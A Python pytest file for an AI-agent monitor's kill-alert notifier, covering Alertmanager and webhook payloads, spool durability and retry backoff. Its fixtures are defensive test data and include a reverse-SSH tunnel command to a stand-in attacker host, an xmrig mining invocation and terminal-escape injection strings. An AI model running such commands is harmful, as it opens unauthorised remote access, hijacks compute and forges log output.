"""Unit tests for monitor.observe.alerts: kill alerts reach a real HTTP server on 127.0.0.1 in the
Alertmanager v2 shape and the documented webhook shape, survive receiver outages and
restarts through the on-disk spool, each exactly once, without retry storms.
"""

from __future__ import annotations

import json
import re
import threading
import time
import unicodedata
from collections.abc import Callable, Iterator
from datetime import datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from monitor.config.types import AlertSettings
from monitor.model.errors import EnvironmentProblem
from monitor.observe.alerts import (
    ALERTMANAGER,
    KILL,
    KILL_SWITCH,
    WEBHOOK,
    WEBHOOK_SCHEMA,
    Alert,
    alertmanager_payload,
    kill_alert,
    kill_switch_alert,
    rfc3339,
    webhook_payload,
)
from monitor.observe.auditlog import SinkStats
from monitor.observe.notifier import Notifier
from monitor.policy.engine import Verdict
from monitor.policy.types import Action, Mode
from tests.support.alerts import accepted

DOCS = Path(__file__).resolve().parents[2] / "docs" / "alerts.md"
RFC3339 = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)")
LABEL_NAME = re.compile(r"[a-zA-Z_][a-zA-Z0-9_]*")
T0 = 1_750_000_000.0


# --- a real receiver ----------------------------------------------------------------------


class Receiver:
    """An HTTP server on 127.0.0.1 that records every POST. mode: "ok" answers 200, "fail"
    500, "hang" waits (until released) before answering 200; stop() closes the port and
    start() opens it again on the same port."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, dict[str, str], Any, int]] = []
        self.mode = "ok"
        self.refuse: Callable[[Any], bool] = lambda body: False  # -> answer 400
        self.release = threading.Event()
        self.port = 0
        self._server: ThreadingHTTPServer | None = None
        self._lock = threading.Lock()

    def start(self) -> None:
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                if outer.mode == "hang":
                    outer.release.wait(10)
                status = 500 if outer.mode == "fail" else 400 if outer.refuse(body) else 200
                with outer._lock:
                    outer.requests.append((self.path, dict(self.headers), body, status))
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.end_headers()
                self.wfile.write(b"{}")

            def log_message(self, format: str, *args: Any) -> None:
                pass

        ThreadingHTTPServer.allow_reuse_address = True
        self._server = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self._server.daemon_threads = True
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02},
                         daemon=True).start()

    def stop(self) -> None:
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()
            self._server = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def ok(self, path: str) -> list[Any]:
        """Bodies of the requests to path that were answered 200."""
        with self._lock:
            return [b for p, _, b, s in self.requests if p == path and s == 200]

    def count(self, path: str, status: int | None = None) -> int:
        with self._lock:
            return sum(1 for p, _, _, s in self.requests
                       if p == path and (status is None or s == status))


AM_PATH, HOOK_PATH = "/api/v2/alerts", "/hook"


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    r = Receiver()
    r.start()
    yield r
    r.release.set()
    r.stop()


class Logs:
    def __init__(self) -> None:
        self.lines: list[tuple[str, str, dict[str, Any]]] = []

    def __call__(self, msg: str, level: str = "info", **fields: Any) -> None:
        self.lines.append((msg, level, fields))

    def levels(self, level: str) -> list[str]:
        return [m for m, lvl, _ in self.lines if lvl == level]


def settings(spool: Path, r: Receiver | None, *, am: bool = True, hook: bool = True,
             timeout: float = 1.0) -> AlertSettings:
    base = r.url if r is not None else "http://127.0.0.1:9"
    return AlertSettings(alertmanager_url=base if am else None,
                         webhook_url=base + HOOK_PATH if hook else None,
                         spool_dir=str(spool), timeout_seconds=timeout,
                         resolve_after_seconds=300, instance="host-a",
                         runbook_url="https://runbooks.example/agentwatch-kill")


def notifier(spool: Path, r: Receiver | None, logs: Logs | None = None, **kw: Any) -> Notifier:
    opts = {k: kw.pop(k) for k in ("am", "hook", "timeout") if k in kw}
    kw.setdefault("clock", lambda: T0 + 1)  # "now", for endsAt: just after the kills
    kw.setdefault("retry_initial", 0.02)
    kw.setdefault("retry_max", 0.1)
    n = Notifier(settings(spool, r, **opts), log=logs or Logs(), **kw)
    n.start()
    return n


def alert(i: int = 0, *, agent: str = "claude-code", rule: str = "no-reverse-ssh",
          at: float = T0) -> Alert:
    return kill_alert(agent=agent, rule=rule, action="kill", outcome="killed",
                      reason="ssh requests remote_forward", at=at + i, session=3,
                      pid=4000 + i, exe="/usr/bin/ssh",
                      argv=("ssh", "-R", "9000:localhost:22", "evil@203.0.113.9"),
                      destination="203.0.113.9:22")


def wait_for(cond: Callable[[], bool], timeout: float = 5.0) -> None:
    deadline = time.monotonic() + timeout
    while not cond():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.01)


def webhook_ids(r: Receiver) -> list[str]:
    return [a["id"] for body in r.ok(HOOK_PATH) for a in body["alerts"]]


def am_alerts(r: Receiver) -> list[dict[str, Any]]:
    return [a for body in r.ok(AM_PATH) for a in body]


def parse_time(text: str) -> float:
    assert RFC3339.fullmatch(text), text
    return datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp()


def check_postable(item: dict[str, Any]) -> None:
    """What Alertmanager's v2 API requires of a postable alert."""
    assert set(item) <= {"labels", "annotations", "startsAt", "endsAt", "generatorURL"}
    labels = item["labels"]
    assert isinstance(labels, dict) and labels
    assert all(isinstance(k, str) and LABEL_NAME.fullmatch(k) and isinstance(v, str) and v
               for k, v in labels.items())
    assert all(isinstance(k, str) and isinstance(v, str)
               for k, v in item["annotations"].items())
    assert parse_time(item["startsAt"]) <= parse_time(item["endsAt"])


# --- what is sent -------------------------------------------------------------------------


def test_alertmanager_receives_a_v2_postable_alert(tmp_path: Path, receiver: Receiver) -> None:
    n = notifier(tmp_path, receiver, hook=False, generator_url="http://host-a:9464/metrics")
    sent = n.notify(alert())
    assert sent is not None and n.drain(5)
    n.close()
    [(path, headers, body, status)] = receiver.requests
    assert (path, status) == (AM_PATH, 200)
    assert headers["Content-Type"] == "application/json"
    assert isinstance(body, list) and len(body) == 1
    item = body[0]
    check_postable(item)
    assert item["labels"] == {"alertname": "AgentwatchKill", "severity": "critical",
                              "agent": "claude-code", "rule": "no-reverse-ssh",
                              "action": "kill", "instance": "host-a"}
    assert parse_time(item["startsAt"]) == pytest.approx(T0, abs=0.001)
    assert parse_time(item["endsAt"]) - parse_time(item["startsAt"]) == pytest.approx(300)
    assert item["generatorURL"] == "http://host-a:9464/metrics"
    notes = item["annotations"]
    assert notes["runbook_url"] == "https://runbooks.example/agentwatch-kill"
    assert "ssh" in notes["summary"] and "4000" in notes["summary"]
    for fragment in ("pid 4000", "exe: /usr/bin/ssh",
                     "argv: ssh -R 9000:localhost:22 evil@203.0.113.9",
                     "destination: 203.0.113.9:22", "reason: ssh requests remote_forward",
                     "killed"):
        assert fragment in notes["description"]


def test_webhook_body_is_the_documented_schema(tmp_path: Path, receiver: Receiver) -> None:
    n = notifier(tmp_path, receiver, am=False)
    sent = n.notify(alert())
    assert sent is not None and n.drain(5)
    n.close()
    [(path, _, body, _)] = receiver.requests
    assert path == HOOK_PATH
    section = re.search(r"## Webhook body.*?```json\n(.*?)```", DOCS.read_text(), re.S)
    assert section is not None, "docs/alerts.md lost its webhook body example"
    documented = json.loads(section.group(1))
    assert body["schema"] == documented["schema"] == WEBHOOK_SCHEMA
    assert set(body) == set(documented)
    [item] = body["alerts"]
    doc_item = documented["alerts"][0]
    assert set(item) == set(doc_item)
    assert set(item["kill"]) == set(doc_item["kill"])
    assert set(item["labels"]) == set(doc_item["labels"])
    assert item["id"] == sent.id and len(item["id"]) == 36
    assert item["kill"] == {"kind": "rule", "agent": "claude-code", "rule": "no-reverse-ssh",
                            "action": "kill", "outcome": "killed", "mode": "enforce",
                            "session": 3, "pid": 4000, "exe": "/usr/bin/ssh",
                            "argv": ["ssh", "-R", "9000:localhost:22", "evil@203.0.113.9"],
                            "destination": "203.0.113.9:22",
                            "reason": "ssh requests remote_forward", "requested_by": None}
    check_postable({k: item[k] for k in ("labels", "annotations", "startsAt", "endsAt")})


def test_kill_switch_alert_has_its_own_alertname() -> None:
    a = kill_switch_alert(agent="codex", outcome="agent session killed (3 processes)",
                          reason="operator pulled the kill switch", at=T0,
                          requested_by="uid 0 (alice)", session=9, instance="h")
    assert a.labels() == {"alertname": KILL_SWITCH, "severity": "critical", "agent": "codex",
                          "rule": "kill-switch", "action": "kill-agent", "instance": "h"}
    assert "uid 0 (alice)" in a.summary() and "requested by: uid 0 (alice)" in a.description()
    [item] = webhook_payload([a], 300, T0)["alerts"]
    assert item["kill"]["kind"] == "kill-switch"


def test_notifier_kill_takes_an_engine_verdict(tmp_path: Path, receiver: Receiver) -> None:
    v = Verdict("no-mining-pools", Action.KILL_AGENT, Mode.ENFORCE, "codex", 7, 0,
                "connect to 198.51.100.7:3333 (port in @mining_ports)",
                destination="198.51.100.7:3333")
    n = notifier(tmp_path, receiver, clock=lambda: T0)
    sent = n.kill(v, "agent session killed (4 processes signalled)", exe="/usr/bin/xmrig",
                  argv=["xmrig", "-o", "pool"])
    assert sent is not None and n.drain(5)
    n.close()
    assert type(sent.action) is str and sent.action == "kill-agent"
    assert (sent.starts_at, sent.instance, sent.exe) == (T0, "host-a", "/usr/bin/xmrig")
    [item] = am_alerts(receiver)
    assert item["labels"]["action"] == "kill-agent" and item["labels"]["agent"] == "codex"
    assert "agent codex (session 7)" in item["annotations"]["summary"]


def test_argv_is_cut_and_undecodable_bytes_replaced() -> None:
    a = kill_alert(agent="a", rule="r", action="kill", outcome="killed", reason="x", at=T0,
                   exe="/bin/\udcff", argv=["sh", "-c", "y" * 5000])
    assert a.exe == "/bin/?"
    assert "(2958 characters more)" in a.description()
    json.dumps(webhook_payload([a], 300, T0)).encode("utf-8")


def test_agent_text_in_annotations_is_escaped_and_kept_raw_in_the_webhook_kill() -> None:
    """Annotations reach terminals (amtool), chat and mail: an exe or argv with ESC or a
    newline must not act there nor forge a description line; the webhook's `kill` object
    keeps the exact strings (JSON-escaped) for forensics."""
    exe = "/tmp/\x1b]0;owned\x07\x1b[2Jssh\nreason: all clear"
    argv = ("ssh", "-R", "1:h:2", "\x9b2J\u202e")
    a = kill_alert(agent="a", rule="r", action="kill", outcome="killed", at=T0, exe=exe,
                   argv=argv, reason=f"executable {exe} matches /tmp/*")
    ann = a.annotations()
    for text in (ann["summary"], *ann["description"].split("\n")):
        assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in text), repr(text)
    assert ann["description"].count("\n") == 3  # outcome, reason, exe, argv: no forged line
    assert "exe: /tmp/\\x1b]0;owned\\x07\\x1b[2Jssh\\nreason: all clear" in ann["description"]
    kill = webhook_payload([a], 300, T0)["alerts"][0]["kill"]
    assert kill["exe"] == exe and kill["argv"] == list(argv)


def test_identical_label_sets_are_coalesced_for_alertmanager() -> None:
    alerts = [alert(0), alert(5, rule="no-mining"), alert(9), alert(20)]
    body = alertmanager_payload(alerts, 300, now=T0 + 21)
    assert [b["labels"]["rule"] for b in body] == ["no-reverse-ssh", "no-mining"]
    first = body[0]
    assert first["startsAt"] == rfc3339(T0)
    assert first["endsAt"] == rfc3339(T0 + 20 + 300)
    assert first["annotations"]["description"].startswith("3 kills with these labels")
    assert "pid 4020" in first["annotations"]["description"]  # the newest one's details
    assert "kills with these labels" not in body[1]["annotations"]["description"]


def test_an_alert_delivered_late_still_fires() -> None:
    [item] = alertmanager_payload([alert()], 300, now=T0 + 3600)
    assert item["startsAt"] == rfc3339(T0)  # when the kill happened
    assert item["endsAt"] == rfc3339(T0 + 3600 + 300)  # not already resolved on arrival


# --- the spool ----------------------------------------------------------------------------


def test_notify_spools_atomically_with_sortable_names(tmp_path: Path) -> None:
    n = Notifier(settings(tmp_path, None), log=Logs())  # not started: nothing is sent
    alerts = [accepted(n.notify(alert(i))) for i in (2, 0, 1)]
    n.flush(5)  # the spool writer's thread writes them, not notify()
    files = sorted((tmp_path / "queue").iterdir())
    assert [f.name.split("-", 1)[1] for f in files] == [
        f"{a.id}.json" for a in sorted(alerts, key=lambda a: a.starts_at)
    ]
    assert all(f.stat().st_mode & 0o777 == 0o600 for f in files)
    assert Alert.from_json(files[0].read_text()) == alerts[1]
    assert n.spooled() == 3


def test_receiver_down_then_back_delivers_each_alert_once(tmp_path: Path,
                                                          receiver: Receiver) -> None:
    receiver.stop()  # connection refused
    logs = Logs()
    n = notifier(tmp_path, receiver, logs)
    ids = [accepted(n.notify(alert(i))).id for i in range(3)]
    n.flush(5)  # written by the spool writer's thread
    wait_for(lambda: n.deliveries[(WEBHOOK, "failure")] >= 2)
    assert n.spooled() == 3 and len(list((tmp_path / "queue").iterdir())) == 3
    assert "alert receiver unreachable; alerts stay spooled and are retried" in \
        logs.levels("warning")
    receiver.start()
    assert n.drain(5)
    n.close()
    assert sorted(webhook_ids(receiver)) == sorted(ids)
    assert len(am_alerts(receiver)) == 1  # one label set
    assert list((tmp_path / "queue").iterdir()) == []
    assert n.deliveries[(ALERTMANAGER, "success")] == 1


def test_http_500_is_retried_until_it_succeeds(tmp_path: Path, receiver: Receiver) -> None:
    receiver.mode = "fail"
    n = notifier(tmp_path, receiver)
    sent = n.notify(alert())
    wait_for(lambda: receiver.count(HOOK_PATH, 500) >= 2)
    receiver.mode = "ok"
    assert sent is not None and n.drain(5)
    n.close()
    assert webhook_ids(receiver) == [sent.id]
    assert len(am_alerts(receiver)) == 1


def test_a_restart_delivers_what_the_last_run_left(tmp_path: Path, receiver: Receiver) -> None:
    receiver.stop()
    first = notifier(tmp_path, receiver)
    ids = [accepted(first.notify(alert(i))).id for i in range(5)]
    first.close()
    receiver.start()
    time.sleep(0.2)
    assert receiver.requests == []  # a closed notifier sends nothing
    second = notifier(tmp_path, receiver)
    assert second.spooled() == 5
    assert second.drain(5)
    second.close()
    assert sorted(webhook_ids(receiver)) == sorted(ids)
    third = notifier(tmp_path, receiver)  # nothing is left to send twice
    assert third.spooled() == 0
    third.close()


def test_each_receiver_keeps_its_own_delivery_state(tmp_path: Path, receiver: Receiver) -> None:
    broken = Receiver()
    broken.mode = "fail"
    broken.start()
    try:
        cfg = AlertSettings(alertmanager_url=receiver.url, webhook_url=broken.url + HOOK_PATH,
                            spool_dir=str(tmp_path), instance="host-a")
        n = Notifier(cfg, log=Logs(), retry_initial=0.02, retry_max=0.1)
        n.start()
        sent = n.notify(alert())
        assert sent is not None
        wait_for(lambda: n.spooled(ALERTMANAGER) == 0 and broken.count(HOOK_PATH) >= 1)
        assert (n.spooled(), n.spooled(WEBHOOK)) == (1, 1)
        n.close()
    finally:
        broken.stop()
    assert len(list((tmp_path / "sent" / ALERTMANAGER).iterdir())) == 1
    again = notifier(tmp_path, receiver)  # the webhook now works
    assert (again.spooled(ALERTMANAGER), again.spooled(WEBHOOK)) == (0, 1)
    assert again.drain(5)
    again.close()
    assert webhook_ids(receiver) == [sent.id]
    assert len(am_alerts(receiver)) == 1  # not sent to Alertmanager again
    assert list((tmp_path / "queue").iterdir()) == []
    assert list((tmp_path / "sent" / ALERTMANAGER).iterdir()) == []


def test_200_kills_in_an_outage_arrive_in_a_few_requests(tmp_path: Path,
                                                        receiver: Receiver) -> None:
    receiver.mode = "fail"
    n = notifier(tmp_path, receiver, retry_initial=0.05, retry_max=0.2)
    ids = []
    start = time.monotonic()
    for i in range(200):
        a = alert(i, agent=("claude-code", "codex")[i % 2],
                  rule=("no-reverse-ssh", "no-mining")[i // 100])
        ids.append(accepted(n.notify(a)).id)
    n.flush(10)  # all 200 on disk and on the lanes, as before the receiver recovers
    time.sleep(0.6)
    failed = receiver.count(AM_PATH, 500) + receiver.count(HOOK_PATH, 500)
    elapsed = time.monotonic() - start
    # per receiver: retries after 0.05, 0.1, 0.2, then every 0.2 s -- not one per kill
    assert 2 <= failed <= 2 * (4 + elapsed / 0.2)
    assert failed < 40
    receiver.mode = "ok"
    assert n.drain(5)
    n.close()
    assert sorted(webhook_ids(receiver)) == sorted(ids)  # every kill, each once
    assert receiver.count(HOOK_PATH, 200) == 4  # batches of 64
    items = am_alerts(receiver)
    assert receiver.count(AM_PATH, 200) == 1
    assert sorted((a["labels"]["agent"], a["labels"]["rule"]) for a in items) == [
        ("claude-code", "no-mining"), ("claude-code", "no-reverse-ssh"),
        ("codex", "no-mining"), ("codex", "no-reverse-ssh")]
    for item in items:
        check_postable(item)
        assert item["annotations"]["description"].startswith("50 kills with these labels")


def test_notify_returns_at_once_while_the_receiver_hangs(tmp_path: Path,
                                                         receiver: Receiver) -> None:
    receiver.mode = "hang"
    n = notifier(tmp_path, receiver, timeout=0.3)
    n.notify(alert(0))
    time.sleep(0.05)  # both delivery threads are now waiting on the receiver
    start = time.monotonic()
    for i in range(1, 21):
        n.notify(alert(i))
    assert time.monotonic() - start < 0.5  # 20 fsynced spool writes, no network wait
    wait_for(lambda: n.deliveries[(ALERTMANAGER, "failure")] >= 1)  # the 0.3 s timeout
    assert n.spooled() == 21
    receiver.mode = "ok"
    receiver.release.set()
    assert n.drain(5)
    n.close()
    assert len(set(webhook_ids(receiver))) == 21


def test_notify_returns_without_touching_the_disk(tmp_path: Path, receiver: Receiver,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """A spool disk that hangs (an NFS server gone, a dying disk) holds up the spool writer's
    thread, never notify()'s caller (the event loop); the alerts are spooled, in order, once
    the disk answers, and only then sent, so none is lost by a crash after that."""
    receiver.stop()
    n = notifier(tmp_path, receiver)
    disk = n.spool.write
    hung = threading.Event()
    release = threading.Event()

    def hanging(name: str, data: bytes) -> None:
        hung.set()
        release.wait(10)
        disk(name, data)

    monkeypatch.setattr(n.spool, "write", hanging)
    start = time.monotonic()
    ids = [accepted(n.notify(alert(i))).id for i in range(5)]
    assert time.monotonic() - start < 0.2
    assert hung.wait(5) and queued_ids(tmp_path) == []
    assert n.spooled() == 5 and n.sink_stats().buffered == 5
    assert receiver.requests == []
    release.set()
    assert n.flush(5)
    assert queued_ids(tmp_path) == ids
    assert n.sink_stats() == SinkStats(0, 0, 0)
    n.close()


def test_backoff_doubles_up_to_the_cap(tmp_path: Path) -> None:
    calls: list[float] = []

    def down(url: str, body: bytes, timeout: float) -> tuple[int, str]:
        calls.append(time.monotonic())
        raise ConnectionRefusedError(111, "Connection refused")

    n = notifier(tmp_path, None, hook=False, http=down, retry_initial=0.04, retry_max=0.16)
    n.notify(alert())
    time.sleep(0.9)
    n.close()
    gaps = [b - a for a, b in zip(calls, calls[1:], strict=False)]
    assert 4 <= len(calls) <= 9  # 0, 0.04, 0.12, 0.28, 0.44, 0.60, 0.76 when idle
    for gap, want in zip(gaps, [0.04, 0.08, 0.16, 0.16, 0.16], strict=False):
        assert want * 0.9 <= gap <= want + 0.3
    assert n.deliveries[(ALERTMANAGER, "failure")] == len(calls)
    assert n.spooled() == 1


def test_an_alert_the_receiver_refuses_is_dropped_there_not_retried_forever(
        tmp_path: Path, receiver: Receiver) -> None:
    receiver.refuse = lambda body: any(a["kill"]["pid"] == 4002 for a in body["alerts"])
    logs = Logs()
    n = notifier(tmp_path, receiver, logs, am=False)
    n.close()  # queue first, then send everything in one go
    ids = [accepted(n.notify(alert(i))).id for i in range(5)]
    n.flush(5)  # all five on the lane before it starts
    n.start()
    assert n.drain(5)
    n.close()
    assert sorted(webhook_ids(receiver)) == sorted(ids[:2] + ids[3:])
    assert "receiver refused an alert; it is not sent there again" in logs.levels("error")
    assert n.deliveries[(WEBHOOK, "rejected")] >= 2


def test_corrupt_spool_files_are_moved_aside_and_logged(tmp_path: Path,
                                                        receiver: Receiver) -> None:
    first = Notifier(settings(tmp_path, receiver), log=Logs())
    good = first.notify(alert())
    first.flush(5)  # on disk (the spool writer's thread writes it)
    queue = tmp_path / "queue"
    (queue / f"{1:019d}-{'0' * 8}-0000-0000-0000-{'0' * 12}.json").write_text("{not json")
    (queue / f"{2:019d}-{'1' * 8}-0000-0000-0000-{'0' * 12}.json").write_text(
        json.dumps({"spool_version": 1, "id": 7}))
    (queue / "notes.txt").write_text("hello")
    logs = Logs()
    n = notifier(tmp_path, receiver, logs)
    assert n.drain(5)
    n.close()
    assert good is not None and webhook_ids(receiver) == [good.id]
    assert sorted(p.name for p in (tmp_path / "corrupt").iterdir())[-1] == "notes.txt"
    assert len(list((tmp_path / "corrupt").iterdir())) == 3 and n.corrupt == 3
    assert logs.levels("error").count("corrupt alert spool file moved aside") == 3


def test_an_interrupted_spool_write_is_recovered_when_complete(tmp_path: Path,
                                                               receiver: Receiver) -> None:
    a = alert()
    queue = tmp_path / "queue"
    queue.mkdir()
    name = f"{round(a.starts_at * 1e9):019d}-{a.id}.json"
    (queue / f".{name}.tmp").write_text(a.to_json())
    (queue / f".{name[:-9]}9999.json.tmp").write_text(a.to_json()[:40])  # cut short
    n = notifier(tmp_path, receiver)
    assert n.drain(5)
    n.close()
    assert webhook_ids(receiver) == [a.id]
    assert len(list((tmp_path / "corrupt").iterdir())) == 1


def test_a_failed_spool_write_still_delivers_from_memory(tmp_path: Path,
                                                         receiver: Receiver) -> None:
    logs = Logs()
    n = notifier(tmp_path, receiver, logs)
    (tmp_path / "queue").rmdir()
    (tmp_path / "queue").write_text("")  # the spool is now unusable
    sent = n.notify(alert())
    assert sent is not None and n.drain(5)
    n.close()
    assert webhook_ids(receiver) == [sent.id]
    assert any(m.startswith("alert not spooled") for m in logs.levels("error"))


def break_spool(spool: Path) -> Callable[[], None]:
    """Make the spool unwritable (its queue directory becomes a file); returns the repair."""
    queue = spool / "queue"
    for leftover in queue.iterdir():
        leftover.unlink()
    queue.rmdir()
    queue.write_text("")

    def repair() -> None:
        queue.unlink()
        queue.mkdir(mode=0o700)

    return repair


def queued_ids(spool: Path) -> list[str]:
    """Ids of the alerts in the spool's queue, oldest first (temp files left out)."""
    return [Alert.from_json(p.read_text()).id for p in sorted((spool / "queue").glob("[0-9]*"))]


def test_alerts_the_spool_cannot_take_are_spooled_once_it_can(tmp_path: Path,
                                                              receiver: Receiver) -> None:
    """Receivers down and the spool unwritable: nothing may be lost, not even by a restart
    after the disk came back (before: kept in memory only, never written, lost)."""
    receiver.stop()
    logs = Logs()
    n = notifier(tmp_path, receiver, logs)
    repair = break_spool(tmp_path)
    ids = [accepted(n.notify(alert(i))).id for i in range(171)]
    assert n.spooled() == 171
    repair()  # space is back
    wait_for(lambda: len(queued_ids(tmp_path)) == 171)
    assert queued_ids(tmp_path) == ids
    assert sum(1 for m in logs.levels("error") if m.startswith("alert not spooled")) == 1, \
        "said once, not once per alert"
    assert n.sink_stats().buffered == 0 and n.sink_stats().dropped == 0
    assert any(m.startswith("alert spool writable again") for m, _, _ in logs.lines)
    n.close()
    receiver.start()
    second = notifier(tmp_path, receiver)
    assert second.drain(5)
    second.close()
    assert sorted(webhook_ids(receiver)) == sorted(ids), "every alert delivered"
    assert n.sink_stats().dropped == 0


def test_beyond_the_memory_bound_the_oldest_alerts_are_dropped_counted_and_logged_once(
        tmp_path: Path, receiver: Receiver) -> None:
    receiver.stop()
    logs = Logs()
    probe = Notifier(settings(tmp_path / "probe", receiver), log=Logs()).notify(alert(10))
    assert probe is not None
    size = len(probe.to_json().encode())  # as spooled: with instance and runbook
    n = notifier(tmp_path, receiver, logs, memory_bytes=5 * size + size // 2)
    repair = break_spool(tmp_path)
    ids = [accepted(n.notify(alert(i))).id for i in range(20)]
    n.flush(5)  # each tried on disk by the spool writer's thread
    stats = n.sink_stats()
    assert stats.buffered == 5 and stats.dropped == 15 and stats.write_errors >= 1
    assert n.spooled() == 5, "dropped alerts are not delivered either"
    assert logs.levels("error").count("alerts dropped: the spool is unwritable and the alerts "
                                      "kept in memory reached their bound; the oldest are "
                                      "dropped") == 1
    repair()
    wait_for(lambda: n.sink_stats().buffered == 0)
    assert queued_ids(tmp_path) == ids[-5:], "the newest are kept"
    n.close()


def test_alerts_delivered_while_the_spool_was_unwritable_are_not_spooled_later(
        tmp_path: Path, receiver: Receiver) -> None:
    n = notifier(tmp_path, receiver)
    repair = break_spool(tmp_path)
    for i in range(5):
        n.notify(alert(i))
    assert n.drain(5)
    assert n.sink_stats().buffered == 0  # delivered from memory: nothing left to write
    repair()
    time.sleep(0.3)  # several retry periods
    assert list((tmp_path / "queue").iterdir()) == []
    n.close()
    assert len(webhook_ids(receiver)) == 5


def test_alerts_still_unspooled_at_close_are_counted_as_lost(tmp_path: Path,
                                                             receiver: Receiver) -> None:
    receiver.stop()
    logs = Logs()
    n = notifier(tmp_path, receiver, logs)
    break_spool(tmp_path)
    for i in range(3):
        n.notify(alert(i))
    n.close()
    assert n.sink_stats().dropped == 3 and n.sink_stats().buffered == 0
    assert "alerts lost: the spool was still unwritable when alert delivery stopped" in \
        logs.levels("error")


def test_no_receiver_means_no_alert_and_no_spool(tmp_path: Path) -> None:
    n = Notifier(AlertSettings(spool_dir=str(tmp_path / "spool")))
    n.start()
    assert not n.enabled and n.notify(alert()) is None and n.spooled() == 0
    n.close()
    assert not (tmp_path / "spool").exists()


def test_a_spool_that_cannot_be_made_is_an_environment_problem(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    n = Notifier(settings(tmp_path / "file" / "spool", None))
    with pytest.raises(EnvironmentProblem, match="set alerts.spool_dir"):
        n.start()


def test_a_spool_others_can_write_to_is_refused(tmp_path: Path) -> None:
    (tmp_path / "spool").mkdir()
    (tmp_path / "spool").chmod(0o777)
    n = Notifier(settings(tmp_path / "spool", None))
    with pytest.raises(EnvironmentProblem, match="writable by others"):
        n.start()


def test_instance_defaults_to_the_host_name(tmp_path: Path) -> None:
    cfg = AlertSettings(webhook_url="http://127.0.0.1:9/x", spool_dir=str(tmp_path))
    n = Notifier(cfg, hostname=lambda: "build-7")
    sent = n.notify(alert())
    assert sent is not None and sent.labels()["instance"] == "build-7"
    assert Alert.from_json(sent.to_json()) == sent


def test_alert_names_are_constants() -> None:
    assert (KILL, KILL_SWITCH) == ("AgentwatchKill", "AgentwatchKillSwitch")
